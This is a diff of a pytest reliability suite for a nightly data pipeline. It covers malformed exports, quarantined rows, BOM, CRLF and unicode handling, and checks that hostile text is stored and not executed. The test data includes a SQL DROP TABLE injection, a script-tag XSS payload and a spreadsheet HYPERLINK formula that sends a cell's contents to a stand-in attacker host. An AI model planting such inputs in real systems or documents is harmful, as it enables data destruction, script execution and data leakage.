@@ -1,10 +1,16 @@
 """Reliability through the real DAG: bad exports, crashes, late nights, reads during publish.
 
 One small generated export (150 freelancers, 60 clients, seed 7): night 1 is run once into a
-baseline home; every case copies that home (shutil.copytree) and runs night 2 in some broken way.
-Night 2 is made messy on purpose: rows the loader must quarantine (bad enum, bad IP, rating 7),
-an accounts file with a byte-order mark, CRLF line ends, an extra column, Korean, Cyrillic and
-emoji names, and hostile text (SQL, <script>, =HYPERLINK) in names and message bodies.
+baseline home; every case restores that home and runs night 2 in some broken way.
+
+Structural problems (BAD_EXPORTS, one per kind of issue 7): night 2 is broken one way; the night
+must fail with one sentence naming the file, column or rule, the serving database must stay
+night 1's byte for byte, and no file of night 2 may be recorded as loaded.
+
+Row-level problems (ROW_DEFECTS) all go into one messy but valid night 2 that must publish: one
+row (with an id of its own) per kind the loader must quarantine, and per kind that must load
+unchanged (byte-order mark, CRLF and mixed line endings, an extra column, Korean, Cyrillic and
+emoji names, a 5 MB message body, hostile text such as SQL, <script> and =HYPERLINK).
 
 The promise checked after every case: the serving database is either the previous night's, byte
 for byte (sha256), or the new night's with rows_loaded + rows_quarantined == the manifest's rows.
@@ -26,6 +32,7 @@ import sys
 import threading
 import time
 from collections.abc import Callable
+from dataclasses import dataclass
 from datetime import date
 from pathlib import Path
 
@@ -46,6 +53,8 @@ N1, N2 = date(2026, 11, 1), date(2026, 11, 2)
 NAMES = ["김정은 테스트", "Иван Петров", "Zoë 🚀 Ng"]
 HOSTILE = ["'; DROP TABLE accounts; --", "<script>alert('x')</script>",
            '=HYPERLINK("http://evil.example/?q="&A1,"click")']
+BIG_BODY = "x" * 5_000_000
+MULTILINE_BODY = 'line one\nline "two"\r\nline, three'
 # Provenance columns that differ between two runs of the same night.
 VOLATILE = {"pipeline_runs": {"started_at", "finished_at", "summary"}, "load_files": {"load_id"}}
 
@@ -60,29 +69,123 @@ def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
         return list(r.fieldnames or []), list(r)
 
 
+# ------------------------------------------------------------------------------ the messy night
+
+
+@dataclass(frozen=True)
+class Quarantined:
+    """Rows the loader must set aside: found in raw.quarantine by one field of their record."""
+
+    table: str
+    field: str  # a field of the quarantined record that identifies the defect's rows
+    value: str
+    column: str  # the column and rule the quarantine row must name
+    rule: str
+    rows: int = 1
+
+
+# Every row-level defect of issue 7 that the loader quarantines, as (table, new rows to append,
+# where the quarantine must show it). Each new row copies the file's first row (identity
+# documents: night 1's, night 2 has none) and changes only what the comment says.
+def _quarantine_rows() -> dict[str, tuple[str, list[dict[str, str]], Quarantined]]:
+    return {
+        "null key": ("logins", [{"login_id": "", "user_agent": "rel-null-key"}],
+                     Quarantined("logins", "user_agent", "rel-null-key", "login_id",
+                                 "not_null")),
+        "duplicate key, different content": (
+            "messages", [{"message_id": "m_rel_dup", "body": "first version"},
+                         {"message_id": "m_rel_dup", "body": "second version"}],
+            Quarantined("messages", "message_id", "m_rel_dup", "message_id", "duplicate_key",
+                        rows=2)),
+        "exact duplicate row": (
+            "interviews", [{"interview_id": "itv_rel_dup"}, {"interview_id": "itv_rel_dup"}],
+            Quarantined("interviews", "interview_id", "itv_rel_dup", "interview_id",
+                        "duplicate")),
+        "enum outside the contract": (
+            "logins", [{"login_id": "l_rel_enum", "ip_kind": "satellite"}],
+            Quarantined("logins", "login_id", "l_rel_enum", "ip_kind", "enum")),
+        "timestamp that does not parse": (
+            "logins", [{"login_id": "l_rel_ts", "ts": "yesterday noon"}],
+            Quarantined("logins", "login_id", "l_rel_ts", "ts", "type")),
+        "date that does not parse": (
+            "identity_documents", [{"document_id": "doc_rel_dob", "date_of_birth": "30/02/1990"}],
+            Quarantined("identity_documents", "document_id", "doc_rel_dob", "date_of_birth",
+                        "type")),
+        "event years in the future": (
+            "logins", [{"login_id": "l_rel_future", "ts": "2031-01-01T00:00:00Z"}],
+            Quarantined("logins", "login_id", "l_rel_future", "ts", "future")),
+        "ended_at before started_at": (
+            "work_sessions", [{"session_id": "ses_rel_order", "ended_at": "2026-11-01T00:00:00Z"}],
+            Quarantined("work_sessions", "session_id", "ses_rel_order", "ended_at", "order")),
+        "updated_at before created_at": (
+            "contracts", [{"contract_id": "ctr_rel_order", "updated_at": "2020-01-01T00:00:00Z"}],
+            Quarantined("contracts", "contract_id", "ctr_rel_order", "updated_at", "order")),
+        "IP 999.1.1.1": ("logins", [{"login_id": "l_rel_ip", "ip": "999.1.1.1"}],
+                         Quarantined("logins", "login_id", "l_rel_ip", "ip", "format")),
+        "hash of the wrong length": (
+            "accounts", [{"account_id": "acc_rel_hash", "email_hash": "abc123"}],
+            Quarantined("accounts", "account_id", "acc_rel_hash", "email_hash", "format")),
+        "perceptual hash not hex": (
+            "identity_documents", [{"document_id": "doc_rel_phash",
+                                    "image_phash": "zz23456789abcdef"}],
+            Quarantined("identity_documents", "document_id", "doc_rel_phash", "image_phash",
+                        "format")),
+        "rating of 0": ("reviews", [{"review_id": "r_rel_0", "rating": "0"}],
+                        Quarantined("reviews", "review_id", "r_rel_0", "rating", "range")),
+        "rating of 7": ("reviews", [{"review_id": "r_rel_7", "rating": "7"}],
+                        Quarantined("reviews", "review_id", "r_rel_7", "rating", "range")),
+        "negative amount": (
+            "transactions", [{"transaction_id": "txn_rel_neg", "amount_usd": "-5.00"}],
+            Quarantined("transactions", "transaction_id", "txn_rel_neg", "amount_usd", "range")),
+        "NUL byte in a message": (
+            "messages", [{"message_id": "m_rel_nul", "body": "a\x00b"}],
+            Quarantined("messages", "message_id", "m_rel_nul", "body", "control_char")),
+        "country not ISO (USA)": (
+            "accounts", [{"account_id": "acc_rel_country", "country": "USA"}],
+            Quarantined("accounts", "account_id", "acc_rel_country", "country", "format")),
+        "unknown time zone": (
+            "accounts", [{"account_id": "acc_rel_tz", "timezone": "Mars/Olympus"}],
+            Quarantined("accounts", "account_id", "acc_rel_tz", "timezone", "format")),
+        "boolean not true/false": (
+            "logins", [{"login_id": "l_rel_bool", "success": "yes"}],
+            Quarantined("logins", "login_id", "l_rel_bool", "success", "type")),
+    }
+
+
+QUARANTINED = {kind: q for kind, (_t, _r, q) in _quarantine_rows().items()}
+MIXED_EOL_LINES = 3  # logins.csv: the header and the first data rows end in CRLF, the rest LF
+
+
 def _make_messy(folder: Path) -> dict[str, int]:
-    """Night 2 with quarantinable rows, BOM/CRLF/extra column/unicode and hostile text."""
-    cols, accounts = _read(folder / "accounts.csv")
-    template = accounts[0]
+    """Night 2 with one row per row-level defect, BOM/CRLF/extra column/unicode/hostile text."""
+    appended: dict[str, list[dict[str, str]]] = {}
+    for table, rows, _q in _quarantine_rows().values():
+        appended.setdefault(table, []).extend(rows)
     for i, name in enumerate(NAMES + HOSTILE):
-        accounts.append(dict(template, account_id=f"acc_rel_{i}", display_name=name,
-                             favourite_colour="blue"))
-    write_csv(folder / "accounts.csv", accounts, [*cols, "favourite_colour"])
+        appended["accounts"].append({"account_id": f"acc_rel_{i}", "display_name": name})
+    for i, body in enumerate(HOSTILE):
+        appended["messages"].append({"message_id": f"m_rel_{i}", "body": body})
+    appended["messages"] += [{"message_id": "m_rel_big", "body": BIG_BODY},
+                             {"message_id": "m_rel_nl", "body": MULTILINE_BODY}]
+
+    for table, extra in appended.items():
+        cols, rows = _read(folder / f"{table}.csv")
+        template = rows[0] if rows else _read(folder.parent / N1.isoformat()
+                                              / f"{table}.csv")[1][0]
+        rows += [dict(template, **change) for change in extra]
+        if table == "accounts":
+            for r in rows:
+                r["favourite_colour"] = "blue"  # a column the contract does not know
+            cols = [*cols, "favourite_colour"]
+        write_csv(folder / f"{table}.csv", rows, cols)
+
+    # accounts.csv: a byte-order mark and CRLF line ends throughout.
     text = (folder / "accounts.csv").read_text(encoding="utf-8")
     (folder / "accounts.csv").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
-
-    cols, messages = _read(folder / "messages.csv")
-    for i, body in enumerate(HOSTILE):
-        messages.append(dict(messages[0], message_id=f"m_rel_{i}", body=body))
-    write_csv(folder / "messages.csv", messages, cols)
-
-    cols, logins = _read(folder / "logins.csv")
-    logins.append(dict(logins[0], login_id="l_rel_enum", ip_kind="satellite"))
-    logins.append(dict(logins[0], login_id="l_rel_ip", ip="999.1.1.1"))
-    write_csv(folder / "logins.csv", logins, cols)
-    cols, reviews = _read(folder / "reviews.csv")
-    reviews.append(dict(reviews[0], review_id="r_rel_7", rating="7"))
-    write_csv(folder / "reviews.csv", reviews, cols)
+    # logins.csv: mixed line endings, CRLF on the first lines, LF after.
+    lines = (folder / "logins.csv").read_text(encoding="utf-8").split("\n")
+    (folder / "logins.csv").write_text("\r\n".join(lines[:MIXED_EOL_LINES]) + "\r\n"
+                                       + "\n".join(lines[MIXED_EOL_LINES:]), encoding="utf-8")
     mode = json.loads((folder / "manifest.json").read_text())["mode"]
     return {n: f["rows"] for n, f in write_manifest(folder, N2, mode)["files"].items()}
 
@@ -171,12 +274,15 @@ def marts(path: Path) -> dict[str, list[tuple]]:
         con.close()
 
 
-# ------------------------------------------------------------------------------ bad exports
+# ------------------------------------------------------------------------------ row level
+
+
+def _manifest(folder: Path) -> dict:
+    return json.loads((folder / "manifest.json").read_text())
 
 
 def _manifest_rows(folder: Path) -> int:
-    return sum(f["rows"] for f in json.loads((folder / "manifest.json").read_text())
-               ["files"].values())
+    return sum(f["rows"] for f in _manifest(folder)["files"].values())
 
 
 def test_messy_night_publishes_every_row_loaded_or_quarantined(reference: Home,
@@ -186,33 +292,143 @@ def test_messy_night_publishes_every_row_loaded_or_quarantined(reference: Home,
                  "FROM pipeline_runs WHERE export_date = ?", [N2])
     assert runs and runs[0][0] == "success"
     assert runs[0][1] + runs[0][2] == _manifest_rows(folder)
-    assert runs[0][2] == 3
+    assert runs[0][2] == sum(q.rows for q in QUARANTINED.values())
     files = _rows(reference.serving, "SELECT file_name, rows_expected, rows_loaded, "
                   "rows_quarantined FROM load_files WHERE export_date = ?", [N2])
-    manifest = json.loads((folder / "manifest.json").read_text())["files"]
+    manifest = _manifest(folder)["files"]
     assert {f[0] for f in files} == set(manifest)
     for name, expected, loaded, quarantined in files:
         assert expected == manifest[name]["rows"] == loaded + quarantined, name
+        want = sum(q.rows for q in QUARANTINED.values() if f"{q.table}.csv" == name)
+        assert quarantined == want, name  # nothing but the planted defects is set aside
     rules = _rows(reference.warehouse, "SELECT table_name, column_name, rule FROM raw.quarantine "
                   "WHERE export_date = ? ORDER BY ALL", [N2])
-    assert rules == [("logins", "ip", "format"), ("logins", "ip_kind", "enum"),
-                     ("reviews", "rating", "range")]
+    assert rules == sorted((q.table, q.column, q.rule) for q in QUARANTINED.values()
+                           for _ in range(q.rows))
     assert check_serving(reference.serving) == []
 
 
-def test_unicode_and_hostile_text_flow_through_load_and_dbt_unchanged(reference: Home) -> None:
-    want = NAMES + HOSTILE
-    ids = [f"acc_rel_{i}" for i in range(len(want))]
-    for db, table in ((reference.warehouse, "raw.accounts"),
-                      (reference.serving, "account_profile")):
+def _quarantined(db: Path, table: str, q: Quarantined) -> list[tuple]:
+    return _rows(db, f"SELECT column_name, rule, reason, record FROM {table} "
+                 "WHERE export_date = ? AND table_name = ? "
+                 "AND json_extract_string(record, '$.' || ?) = ?",
+                 [N2, q.table, q.field, q.value])
+
+
+@pytest.mark.parametrize("kind", list(QUARANTINED))
+def test_row_level_defect_is_quarantined_with_its_rule(kind: str, reference: Home) -> None:
+    q = QUARANTINED[kind]
+    for db, table in ((reference.warehouse, "raw.quarantine"), (reference.serving, "quarantine")):
+        got = _quarantined(db, table, q)
+        assert len(got) == q.rows, (table, got)
+        for column, rule, reason, _record in got:
+            assert (column, rule) == (q.column, q.rule), (table, reason)
+            assert f"{q.column}: " in reason and f"[{q.rule}]" in reason, reason
+    # The defect's row reached neither the raw table nor dbt (an exact duplicate: one copy did).
+    loaded = _rows(reference.warehouse, f"SELECT count(*) FROM raw.{q.table} "
+                   f"WHERE _export_date = ? AND CAST(\"{q.field}\" AS VARCHAR) = ?",
+                   [N2, q.value])[0][0]
+    assert loaded == (1 if q.rule == "duplicate" else 0)
+
+
+def _staged(home: Home, table: str, key: str, column: str, like: str) -> dict[str, object]:
+    return dict(_rows(home.warehouse, f"SELECT {key}, {column} FROM staging.stg_{table} "
+                      f"WHERE {key} LIKE ?", [like]))
+
+
+def _file_lines(home: Home, table: str, lines: list[int]) -> list[str]:
+    return [r[0] for r in _rows(home.warehouse, f"SELECT {TABLES[table].key} FROM raw.{table} "
+                                "WHERE _export_date = ? AND _line IN "
+                                f"({', '.join(map(str, lines))}) ORDER BY _line", [N2])]
+
+
+def _first_ids(exports: Path, table: str, n: int) -> list[str]:
+    return [r[TABLES[table].key] for r in _read(exports / N2.isoformat() / f"{table}.csv")[1][:n]]
+
+
+def _loads_bom_and_crlf(home: Home, exports: Path) -> None:
+    # The first column's name carries the BOM and every last value a CR: both must be stripped
+    # (else account_id is "missing" and status is "not an enum"). Every row but the planted
+    # defects loads, at its line, with its id.
+    sent = [r["account_id"] for r in _read(exports / N2.isoformat() / "accounts.csv")[1]]
+    bad = {q.value for q in QUARANTINED.values() if q.table == "accounts"}
+    loaded = _rows(home.warehouse, "SELECT _line, account_id FROM raw.accounts "
+                   "WHERE _export_date = ? ORDER BY _line", [N2])
+    assert loaded == [(i, a) for i, a in enumerate(sent, start=1) if a not in bad]
+    status = _staged(home, "accounts", "account_id", "status", sent[0])
+    assert status[sent[0]] in TABLES["accounts"].column("status").values
+
+
+def _loads_mixed_line_endings(home: Home, exports: Path) -> None:
+    n = MIXED_EOL_LINES  # CRLF lines: the header, data rows 1..n-1; LF after
+    ids = _first_ids(exports, "logins", n + 1)
+    assert _file_lines(home, "logins", list(range(1, n + 2))) == ids
+    staged = dict(_rows(home.warehouse, "SELECT login_id, success FROM staging.stg_logins "
+                        "WHERE login_id IN (?, ?, ?, ?)", ids))
+    assert set(staged) == set(ids) and all(isinstance(v, bool) for v in staged.values())
+
+
+def _loads_unicode_names(home: Home, exports: Path) -> None:
+    ids = [f"acc_rel_{i}" for i in range(len(NAMES))]
+    for got in (_staged(home, "accounts", "account_id", "display_name", "acc_rel_%"),
+                dict(_rows(home.warehouse, "SELECT account_id, display_name FROM raw.accounts "
+                           "WHERE account_id LIKE 'acc_rel_%'")),
+                dict(_rows(home.serving, "SELECT account_id, display_name FROM account_profile "
+                           "WHERE account_id LIKE 'acc_rel_%'"))):
+        assert [got.get(i) for i in ids] == NAMES
+
+
+def _loads_extra_column(home: Home, exports: Path) -> None:
+    raw_cols = {c for (c,) in _rows(home.warehouse, "SELECT column_name FROM "
+                                     "information_schema.columns WHERE table_schema = 'raw' "
+                                     "AND table_name = 'accounts'")}
+    assert "favourite_colour" not in raw_cols and set(TABLES["accounts"].column_names) <= raw_cols
+    sent = _read(exports / N2.isoformat() / "accounts.csv")[1]
+    assert all(r["favourite_colour"] == "blue" for r in sent)
+    loaded = _rows(home.warehouse, "SELECT count(*) FROM raw.accounts WHERE _export_date = ?",
+                   [N2])[0][0]
+    assert loaded == len(sent) - sum(q.rows for q in QUARANTINED.values()
+                                     if q.table == "accounts")
+
+
+def _loads_big_body(home: Home, exports: Path) -> None:
+    for table in ("raw.messages", "staging.stg_messages"):
+        got = _rows(home.warehouse, f"SELECT length(body), body = ? FROM {table} "
+                    "WHERE message_id = 'm_rel_big'", [BIG_BODY])
+        assert got == [(len(BIG_BODY), True)], table
+
+
+def _loads_multiline_body(home: Home, exports: Path) -> None:
+    assert _staged(home, "messages", "message_id", "body", "m_rel_nl") == {
+        "m_rel_nl": MULTILINE_BODY}
+
+
+def _loads_hostile_text(home: Home, exports: Path) -> None:
+    ids = [f"acc_rel_{i}" for i in range(len(NAMES), len(NAMES) + len(HOSTILE))]
+    for db, table in ((home.warehouse, "raw.accounts"), (home.serving, "account_profile")):
         got = dict(_rows(db, f"SELECT account_id, display_name FROM {table} "
                          "WHERE account_id LIKE 'acc_rel_%'"))
-        assert [got.get(i) for i in ids] == want, (db, table)
-    bodies = dict(_rows(reference.warehouse, "SELECT message_id, body FROM staging.stg_messages "
-                        "WHERE message_id LIKE 'm_rel_%'"))
-    assert [bodies.get(f"m_rel_{i}") for i in range(3)] == HOSTILE
+        assert [got.get(i) for i in ids] == HOSTILE, (db, table)
+    bodies = _staged(home, "messages", "message_id", "body", "m_rel_%")
+    assert [bodies.get(f"m_rel_{i}") for i in range(len(HOSTILE))] == HOSTILE
     # The statement in the name was stored, not run: the tables are all there.
-    assert _rows(reference.serving, "SELECT count(*) FROM account_profile")[0][0] > 200
+    assert _rows(home.serving, "SELECT count(*) FROM account_profile")[0][0] > 200
+
+
+LOADED_UNCHANGED: dict[str, Callable[[Home, Path], None]] = {
+    "byte-order mark and CRLF line ends": _loads_bom_and_crlf,
+    "mixed line endings": _loads_mixed_line_endings,
+    "Korean, Cyrillic and emoji names": _loads_unicode_names,
+    "extra unknown column": _loads_extra_column,
+    "5 MB message body": _loads_big_body,
+    "body with newlines, quotes and commas": _loads_multiline_body,
+    "hostile text (SQL, <script>, =HYPERLINK)": _loads_hostile_text,
+}
+
+
+@pytest.mark.parametrize("kind", list(LOADED_UNCHANGED))
+def test_row_level_oddity_loads_unchanged(kind: str, reference: Home, exports: Path) -> None:
+    LOADED_UNCHANGED[kind](reference, exports)
 
 
 def test_every_file_under_home_is_owner_only_after_a_night(reference: Home) -> None:
@@ -227,46 +443,140 @@ def test_every_file_under_home_is_owner_only_after_a_night(reference: Home) -> N
     assert loose == []
 
 
-def _checksum_off(folder: Path) -> None:
+# ------------------------------------------------------------------------------ structural
+# Each breaker changes night 2 one way and returns the phrase the night's error must contain.
+
+
+def _remanifest(folder: Path, rows: dict[str, int] | None = None) -> None:
+    write_manifest(folder, N2, _manifest(folder)["mode"], rows)
+
+
+def _rows_of(folder: Path, name: str) -> int:
+    return _manifest(folder)["files"][name]["rows"]
+
+
+def _no_manifest(folder: Path) -> str:
+    (folder / "manifest.json").unlink()
+    return f"the export never arrived: {folder / 'manifest.json'} does not exist"
+
+
+def _bad_json(folder: Path) -> str:
+    (folder / "manifest.json").write_text('{"contract_version": "1.0", ')
+    return "manifest.json: not valid JSON"
+
+
+def _unknown_version(folder: Path) -> str:
+    m = _manifest(folder)
+    m["contract_version"] = "9.9"
+    (folder / "manifest.json").write_text(json.dumps(m))
+    return "manifest.json: contract_version '9.9' is not supported"
+
+
+def _wrong_date(folder: Path) -> str:
+    m = _manifest(folder)
+    m["export_date"] = N1.isoformat()
+    (folder / "manifest.json").write_text(json.dumps(m))
+    return f"export_date '{N1}' is not the folder's date {N2}"
+
+
+def _listed_missing(folder: Path) -> str:
+    (folder / "reviews.csv").unlink()
+    return "file reviews.csv: listed in the manifest but absent from the folder"
+
+
+def _unlisted_present(folder: Path) -> str:
+    shutil.copy(folder / "reviews.csv", folder / "reviews_old.csv")
+    return "file reviews_old.csv: present in the folder but not listed in the manifest"
+
+
+def _count_off(folder: Path) -> str:
+    m = _manifest(folder)
+    n = m["files"]["logins.csv"]["rows"]
+    m["files"]["logins.csv"]["rows"] = n + 1
+    (folder / "manifest.json").write_text(json.dumps(m))
+    return f"file logins.csv: holds {n} data rows but the manifest says {n + 1}"
+
+
+def _checksum_off(folder: Path) -> str:
     with (folder / "logins.csv").open("a", encoding="utf-8") as f:
         f.write(f"l_extra,acc_00000001,{N2}T05:00:00Z,203.0.113.9,US,64500,residential,d,ua,"
                 "true\n")
+    return "file logins.csv: SHA-256 differs from the manifest"
 
 
-def _missing_column(folder: Path) -> None:
+def _truncated_csv(folder: Path) -> str:
+    n = _rows_of(folder, "logins.csv")
+    text = (folder / "logins.csv").read_text(encoding="utf-8")
+    cut = text[: text.rindex("\n", 0, len(text) - 1) + 20]  # the last row breaks off mid-field
+    (folder / "logins.csv").write_text(cut, encoding="utf-8")
+    _remanifest(folder, {"logins.csv": n})  # checksum of the cut file: the sender's view
+    fields = len(cut.rsplit("\n", 1)[1].split(","))
+    return (f"file logins.csv, data row {n}: has {fields} fields but the header has "
+            f"{len(TABLES['logins'].columns)}; the file is truncated")
+
+
+def _corrupt_gzip(folder: Path) -> str:
+    rows = _rows_of(folder, "logins.csv")
+    data = gzip.compress((folder / "logins.csv").read_bytes())
+    (folder / "logins.csv").unlink()
+    (folder / "logins.csv.gz").write_bytes(data[: len(data) // 2])
+    _remanifest(folder, {"logins.csv.gz": rows})
+    return "file logins.csv.gz: unreadable"
+
+
+def _header_only(folder: Path) -> str:
+    n = _rows_of(folder, "logins.csv")
+    write_csv(folder / "logins.csv", [], list(TABLES["logins"].column_names))
+    _remanifest(folder, {"logins.csv": n})
+    return f"file logins.csv: holds 0 data rows but the manifest says {n}"
+
+
+def _missing_column(folder: Path) -> str:
     cols, rows = _read(folder / "reviews.csv")
     write_csv(folder / "reviews.csv", rows, [c for c in cols if c != "rating"])
-    write_manifest(folder, N2)
+    _remanifest(folder)
+    return "file reviews.csv, column rating: required column missing"
 
 
-def _parquet_wrong_type(folder: Path) -> None:
-    cols, rows = _read(folder / "reviews.csv")
+def _renamed_column(folder: Path) -> str:
+    text = (folder / "logins.csv").read_text(encoding="utf-8").replace("account_id", "user_id", 1)
+    (folder / "logins.csv").write_text(text, encoding="utf-8")
+    _remanifest(folder)
+    return "file logins.csv, column account_id: required column missing"
+
+
+def _parquet_wrong_type(folder: Path) -> str:
+    _cols, rows = _read(folder / "reviews.csv")
     (folder / "reviews.csv").unlink()
     pq.write_table(pa.table({c: [r[c] for r in rows] for c in TABLES["reviews"].column_names}),
                    folder / "reviews.parquet")  # every column a string: rating is not
-    write_manifest(folder, N2)
+    _remanifest(folder)
+    return "file reviews.parquet, column rating: Parquet type VARCHAR does not hold a contract"
 
 
-def _corrupt_gzip(folder: Path) -> None:
-    data = gzip.compress((folder / "logins.csv").read_bytes())
-    rows = json.loads((folder / "manifest.json").read_text())["files"]["logins.csv"]["rows"]
-    (folder / "logins.csv").unlink()
-    (folder / "logins.csv.gz").write_bytes(data[: len(data) // 2])
-    write_manifest(folder, N2, rows={"logins.csv.gz": rows})
+def _not_what_extension_says(folder: Path) -> str:
+    rows = _rows_of(folder, "reviews.csv")
+    (folder / "reviews.csv").rename(folder / "reviews.parquet")  # a CSV named .parquet
+    _remanifest(folder, {"reviews.parquet": rows})
+    return "file reviews.parquet: not a readable Parquet file"
 
 
-def _unknown_version(folder: Path) -> None:
-    m = json.loads((folder / "manifest.json").read_text())
-    m["contract_version"] = "9.9"
-    (folder / "manifest.json").write_text(json.dumps(m))
-
-
-BAD_EXPORTS: dict[str, tuple[Callable[[Path], None], str]] = {
-    "checksum off": (_checksum_off, "file logins.csv: SHA-256 differs"),
-    "missing column": (_missing_column, "column rating: required column missing"),
-    "parquet wrong type": (_parquet_wrong_type, "column rating: Parquet type VARCHAR"),
-    "corrupt gzip": (_corrupt_gzip, "file logins.csv.gz: unreadable"),
-    "unknown contract version": (_unknown_version, "contract_version '9.9' is not supported"),
+BAD_EXPORTS: dict[str, Callable[[Path], str]] = {
+    "no manifest": _no_manifest,
+    "manifest not valid JSON": _bad_json,
+    "unknown contract version": _unknown_version,
+    "export date not the folder's": _wrong_date,
+    "listed file missing": _listed_missing,
+    "unlisted file present": _unlisted_present,
+    "row count off": _count_off,
+    "checksum off": _checksum_off,
+    "truncated CSV": _truncated_csv,
+    "corrupt gzip": _corrupt_gzip,
+    "header only, rows promised": _header_only,
+    "required column missing": _missing_column,
+    "required column renamed": _renamed_column,
+    "Parquet column of the wrong type": _parquet_wrong_type,
+    "file not what its extension says": _not_what_extension_says,
 }
 
 
@@ -277,15 +587,20 @@ def test_bad_export_leaves_the_previous_night_byte_identical(
     before = sha(home.serving)
     bad = tmp_path / "exports"
     shutil.copytree(exports / N2.isoformat(), bad / N2.isoformat())
-    breaker, message = BAD_EXPORTS[case]
-    breaker(bad / N2.isoformat())
+    message = BAD_EXPORTS[case](bad / N2.isoformat())
     results = _run(home, bad, N2)
     assert [(r.export_date, r.status) for r in results] == [(N2, "failed")]
-    assert message in (results[0].error or ""), results[0].error
-    assert "\n" not in (results[0].error or "")
+    error = results[0].error or ""
+    assert message in error, error
+    assert error.lower().startswith(f"night {N2}"), error
+    assert "\n" not in error
     assert sha(home.serving) == before
     assert _rows(home.warehouse, "SELECT count(*) FROM raw.load_files WHERE export_date = ?",
                  [N2]) == [(0,)]
+    # The failure is on record for the dashboard's run history once a later night publishes.
+    failed = _rows(home.warehouse, "SELECT error FROM raw.load_log WHERE export_date = ? "
+                   "AND step = 'failed'", [N2])
+    assert [e for (e,) in failed] == [error]
 
 
 # ------------------------------------------------------------------------------ crashes
